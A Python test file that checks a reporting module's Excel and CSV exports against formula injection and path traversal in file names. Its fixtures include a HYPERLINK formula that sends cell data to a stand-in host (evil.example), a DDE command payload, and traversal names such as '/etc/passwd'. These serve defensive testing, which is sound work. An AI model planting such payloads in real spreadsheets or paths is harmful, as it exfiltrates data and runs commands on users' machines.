"""Exports for Excel: no formula from data runs, no file name from data escapes or breaks the export folder."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from opslib.assortment.actions import export_actions
from opslib.errors import ReportError
from opslib.reporting.exports import neutralise, safe_filename, write_table

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
ATTACKS = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=cmd|' /C calc'!A0"]


def _table() -> pd.DataFrame:
    n = len(ATTACKS)
    return pd.DataFrame({
        "sku": ATTACKS, "category": ["美妆"] * n, "gmv": [-5.0] + [1.5] * (n - 1),
        "units": [-3] + [2] * (n - 1), "note": ["-12.5"] + ["ok"] * (n - 1), "action_cn": ["补货"] * n,
    })


def test_csv_cells_that_start_a_formula_get_a_quote(tmp_path: Path) -> None:
    paths = write_table(_table(), tmp_path, "actions", formats=("csv",))
    with paths[0].open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    # Every attack is kept, readable, behind a leading apostrophe (OWASP): Excel shows it as text.
    assert [r["sku"] for r in rows] == ["'" + a for a in ATTACKS]
    # Numbers are numbers: a negative GMV or unit count is not a formula and is written as it is;
    # a text cell that is a plain number ("-12.5") cannot run anything and stays as it is too.
    assert rows[0]["gmv"] == "-5.0" and rows[0]["units"] == "-3" and rows[0]["note"] == "-12.5"
    assert rows[1]["category"] == "美妆" and rows[1]["action_cn"] == "补货"
    assert paths[0].read_bytes()[:3] == b"\xef\xbb\xbf"  # BOM: Excel shows the Chinese


def test_xlsx_text_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    (path,) = write_table(_table(), tmp_path, "actions", formats=("xlsx",), sheet="actions")
    ws = load_workbook(path)["actions"]
    header = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2))
    skus = [r[header.index("sku")] for r in rows]
    # The exact text, no apostrophe added to the value (XML gives a carriage return back as a line feed).
    assert [c.value for c in skus] == [a.replace("\r", "\n") for a in ATTACKS]
    assert all(c.data_type == "s" for c in skus)  # 'f' would be a live formula
    assert all(c.quotePrefix for c in skus)  # and it stays text when someone edits the cell
    gmv = rows[0][header.index("gmv")]
    assert gmv.value == -5.0 and gmv.data_type == "n"
    # The raw sheet XML has no <f> (formula) element at all.
    import zipfile

    with zipfile.ZipFile(path) as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        assert "<f>" not in z.read(sheet).decode("utf-8")


def test_xlsx_keeps_dates_missing_values_and_drops_unstorable_characters(tmp_path: Path) -> None:
    frame = pd.DataFrame({"day": pd.to_datetime(["2024-06-18", None]).tz_localize("Asia/Shanghai"),
                          "x": [1.0, float("nan")], "name": ["a\x01b", None]})
    (path,) = write_table(frame, tmp_path, "t", formats=("xlsx",))
    ws = load_workbook(path).active
    assert ws["A2"].value.year == 2024 and ws["A3"].value is None and ws["B3"].value is None
    assert ws["C2"].value == "a\ufffdb"


@pytest.mark.parametrize(
    ("text", "expected"),
    [("../../x", "x"), ("服饰/鞋包", "服饰_鞋包"), ("美妆 #1", "美妆 #1"), ("..", "unnamed"), ("CON", "_CON"),
     ("a\\b:c*?", "a_b_c_"), (".hidden", "hidden"), ("", "unnamed")],
)
def test_safe_filename(text: str, expected: str) -> None:
    assert safe_filename(text) == expected


def test_a_300_character_category_gives_a_short_distinct_name(tmp_path: Path) -> None:
    a, b = "类" * 300 + "甲", "类" * 300 + "乙"
    na, nb = safe_filename(a), safe_filename(b)
    assert na != nb and len(na.encode()) <= 120 and len(nb.encode()) <= 120
    # The whole file name (prefix + name + date + suffix) fits the 255-byte limit of ext4 / APFS.
    paths = write_table(pd.DataFrame({"a": [1]}), tmp_path, f"category_actions_{a}_2024-06-30")
    assert all(p.exists() and len(p.name.encode()) < 255 for p in paths)


@settings(max_examples=150, deadline=None)
@given(st.text(min_size=0, max_size=400))
def test_any_text_gives_one_file_name_component(text: str) -> None:
    name = safe_filename(text)
    assert name and name not in (".", "..") and "/" not in name and "\\" not in name and "\x00" not in name
    assert len(name.encode("utf-8")) <= 120 and not name.startswith(".")


def test_names_from_data_stay_inside_the_export_folder(tmp_path: Path) -> None:
    folder = tmp_path / "exports"
    for evil in ("../../x", "/etc/passwd", "..", "a/../../b", "~/x"):
        for p in write_table(pd.DataFrame({"a": [1]}), folder, f"category_actions_{evil}_2024"):
            assert p.resolve().parent == folder.resolve()
    assert sorted(os.listdir(tmp_path)) == ["exports"]


def test_export_actions_folder_and_name_form(tmp_path: Path) -> None:
    paths = export_actions(_table(), tmp_path / "out", name="category_actions_../../x_2024-06-30")
    assert [p.suffix for p in paths] == [".csv", ".xlsx"]
    assert all(p.parent == (tmp_path / "out").resolve() for p in paths)
    assert load_workbook(paths[1]).sheetnames == ["actions"]


def test_export_actions_single_path_form_refuses_a_climbing_name(tmp_path: Path) -> None:
    # What notebook 01 builds today: f"{export_dir}/category_actions{tag}_{date}.csv" with a category from data.
    ok = export_actions(_table(), tmp_path / "out" / "category_actions_美妆_2024-06-30.csv")
    assert ok.exists() and ok.read_text(encoding="utf-8-sig").count("'=") >= 2
    with pytest.raises(ReportError, match="goes back up"):
        export_actions(_table(), f"{tmp_path}/out/category_actions_../../x_2024-06-30.csv")
    assert not (tmp_path / "x_2024-06-30.csv").exists()
    long = export_actions(_table(), tmp_path / "out" / ("category_actions_" + "类" * 300 + ".xlsx"))
    assert long.exists() and long.suffix == ".xlsx"


def test_neutralise_leaves_non_text_alone() -> None:
    assert neutralise(-5) == -5 and neutralise(-0.5) == -0.5 and neutralise(None) is None
    assert neutralise("-") == "'-" and neutralise("+86 138") == "'+86 138" and neutralise("1e5") == "1e5"


def test_xlsx_for_teams_headers_formats_frozen_filter_status_and_no_inf(tmp_path: Path) -> None:
    frame = pd.DataFrame({"sku": ["=HYPERLINK(\"x\")", "B"], "gmv": [12345.6, -2.5], "rate": [0.123, 0.5],
                          "units": [3, 4], "dos": [float("inf"), 7.25], "status": ["待处理 open", "待处理 open"],
                          "day": pd.to_datetime(["2025-12-28", "2025-12-29"])})
    xlsx, csv_path = write_table(frame, tmp_path, "actions", formats=("xlsx", "csv"), sheet="actions",
                            headers={"sku": "商品编码 SKU", "gmv": "成交额 GMV"},
                            kinds={"gmv": "money", "rate": "percent", "dos": "decimal"},
                            choices={"status": ["待处理 open", "已完成 done"]}, currency="GBP")
    ws = load_workbook(xlsx).active
    assert [c.value for c in ws[1]][:3] == ["商品编码 SKU", "成交额 GMV", "rate"]
    assert ws["A1"].font.b and ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:G3"
    assert ws["B2"].number_format == '"£"#,##0.00;-"£"#,##0.00' and ws["B2"].value == 12345.6
    assert ws["C2"].number_format == "0.0%" and ws["D2"].number_format == "#,##0"
    assert ws["G2"].number_format == "yyyy-mm-dd"
    assert ws["E2"].value is None and ws["E3"].value == 7.25  # inf is an empty cell, never the text "inf"
    assert ws["A2"].data_type == "s" and ws["A2"].value.startswith("=")  # still text, never a formula
    assert ws.column_dimensions["A"].width >= 14  # fits the header, CJK counted twice
    (dv,) = ws.data_validations.dataValidation
    assert str(dv.sqref) == "F2:F3" and "已完成 done" in dv.formula1
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][:2] == ["商品编码 SKU", "成交额 GMV"] and rows[1][4] == "" and rows[1][0].startswith("'=")


def test_unknown_kind_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="kind"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path, "x", kinds={"a": "currency"})
